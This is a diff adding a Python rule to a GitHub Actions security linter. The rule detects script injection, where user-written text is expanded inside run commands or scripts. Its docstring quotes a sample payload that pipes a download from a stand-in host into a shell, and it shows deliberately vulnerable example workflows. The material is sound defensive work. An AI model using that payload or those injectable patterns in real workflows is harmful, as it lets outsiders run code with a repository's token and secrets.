@@ -1,0 +1,181 @@
+"""Text that other people write does not become code."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from typing import NamedTuple
+
+from sp404audit.documents.action import Action
+from sp404audit.documents.code import Code
+from sp404audit.documents.expression import Embedded
+from sp404audit.documents.workflow import Workflow
+from sp404audit.results import Fix
+from sp404audit.rules.actions.lift import lift_to_variables
+from sp404audit.rules.actions.reach import outside_trigger, privileged_trigger
+from sp404audit.rules.actions.untrusted import Scope, Taint
+from sp404audit.rules.registry import Verdict, Verdicts, Where, fail, passed, rule
+
+__all__ = ["no_script_injection"]
+
+_WRITERS = {
+    "anyone": "which anyone can write",
+    "contributors": "which whoever's commit is merged can write",
+    "members": "which people with access to the repository write",
+    "callers": "which whoever starts or calls this can choose",
+    "refs": "a name that whoever can push can choose",
+}
+_EVENTS_OF_REPOSITORY = frozenset({"check_run", "check_suite", "merge_group", "status", "workflow_call"})
+
+
+@rule(
+    "actions/no-script-injection",
+    severity="high",
+    equivalents=[
+        "zizmor:template-injection",
+        "actionlint:expression",
+        "poutine:injection",
+        "octoscan:expression-injection",
+        "semgrep:yaml.github-actions.security.run-shell-injection.run-shell-injection",
+        "semgrep:yaml.github-actions.security.github-script-injection.github-script-injection",
+        "checkov:CKV_GHA_2",
+        "kics:Run Block Injection",
+        "kics:Script Block Injection",
+        "scorecard:Dangerous-Workflow",
+    ],
+    cwe=[78, 94],
+    precision="high",
+)
+def no_script_injection(code: Code) -> Verdicts:
+    """Nothing that other people write is expanded inside code.
+
+    GitHub replaces `${{ … }}` in a command before any shell reads it. A title such as `"; curl evil.example | sh; "`
+    is then no longer a title but a command, which runs with the job's token and secrets. The same holds for the code
+    that some actions take as an input, for a container's options and for `shell:`.
+
+    How grave it is depends on who writes the text and on what starts the workflow: critical where anyone can, with the
+    repository's own rights; medium for inputs of a dispatch, a call or a composite action; low for names of branches.
+    Comparisons, and functions that answer yes or no, let no text through; booleans, numbers and choices among inputs
+    hold no code.
+
+    Fix: hand the value over in a variable (`env:`) and use that variable in the code, as the language there spells it
+    (`"$TITLE"`, `$env:TITLE`, `process.env.TITLE`).
+
+    Passes:
+        on: issues
+        permissions: {}
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: echo "new issue, $TITLE, number ${{ github.event.issue.number }}"
+                env:
+                  TITLE: ${{ github.event.issue.title }}
+
+    Fails:
+        on: issues
+        permissions: {}
+        jobs:
+          greet:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: echo "new issue, ${{ github.event.issue.title }}"
+
+    Fails (through a variable, and in a script):
+        on: pull_request_target
+        permissions: {}
+        jobs:
+          check:
+            runs-on: ubuntu-24.04
+            env:
+              BRANCH: origin/${{ github.head_ref }}
+            steps:
+              - run: git diff ${{ env.BRANCH }}
+              - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
+                with:
+                  script: core.info(`${{ github.event.pull_request.body }}`)
+
+    Passes (a choice, a comparison and a literal):
+        on:
+          workflow_dispatch:
+            inputs:
+              level:
+                type: choice
+                options: [patch, minor]
+        permissions: {}
+        jobs:
+          bump:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: |
+                  bump ${{ inputs.level }}
+                  echo ${{ contains(github.event.head_commit.message, '[dry]') && '--dry-run' || '' }}
+    """
+    step = code.step
+    if (code.job is not None and code.job.is_never_run) or (step is not None and step.is_never_run):
+        return
+    found = list(_injections(code)) if "${{" in code.scalar.value else []
+    for injection in found:
+        yield _verdict(code, injection)
+    if not found:
+        yield passed(code, "nothing that other people write is expanded here")
+
+
+class _Injection(NamedTuple):
+    """An expression in code, and the gravest text that it lets in."""
+
+    embedded: Embedded
+    taint: Taint
+    fix: Fix | None
+
+
+def _injections(code: Code) -> Iterator[_Injection]:
+    owner = _owner(code)
+    tainted: list[tuple[Embedded, Taint]] = []
+    for embedded in code.expressions:
+        if embedded.tree is None:
+            continue
+        taint = Scope(owner, code.job, code.step).taint(embedded.tree)
+        if taint is not None:
+            tainted.append((embedded, taint))
+    # One fix mends the whole text: each expression needs a variable, and two fixes would both add `env:`.
+    fix = lift_to_variables(code, [embedded for embedded, _ in tainted]) if tainted else None
+    for number, (embedded, taint) in enumerate(tainted):
+        yield _Injection(embedded, taint, fix if number == 0 else None)
+
+
+def _owner(code: Code) -> Workflow | Action:
+    if code.job is not None:
+        return code.job.workflow
+    assert code.step is not None  # code without a job is that of an action's step
+    assert code.step.action is not None
+    return code.step.action
+
+
+def _verdict(code: Code, injection: _Injection) -> Verdict:
+    embedded, taint, fix = injection
+    region = code.region_of(embedded.start, embedded.end)
+    severity, related = _severity(taint, _owner(code))
+    what = "the command" if code.what == "run" else f"'{code.what}'"
+    where = code.step.label if code.step is not None else code.job.label if code.job is not None else ""
+    message = (
+        f"{what} of {where} expands '{taint.source[:120]}', {_WRITERS[taint.writer]}, as code; "
+        "hand it over in a variable (env)"
+    )
+    return fail(region, message, severity=severity, fix=fix, related=related)
+
+
+def _severity(taint: Taint, owner: Workflow | Action) -> tuple[str, list[tuple[Where, str]]]:
+    """Grade by who writes the text and by what starts the workflow; name the event that lets people from outside in."""
+    if taint.writer != "anyone":
+        return ("low" if taint.writer == "refs" else "medium"), []
+    if isinstance(owner, Action):
+        return "high", []
+    trigger = outside_trigger(owner)
+    if trigger is not None:
+        if privileged_trigger(owner) is not None:
+            return "critical", [(trigger, f"'{trigger.name}' runs it with the repository's own rights")]
+        return "high", [(trigger, f"'{trigger.name}' lets people from outside start it")]
+    if "workflow_call" in owner.triggers:
+        return "high", []
+    # Of all the others, none carries such a text from outside today.
+    return ("medium" if _EVENTS_OF_REPOSITORY & owner.triggers.keys() else "low"), []
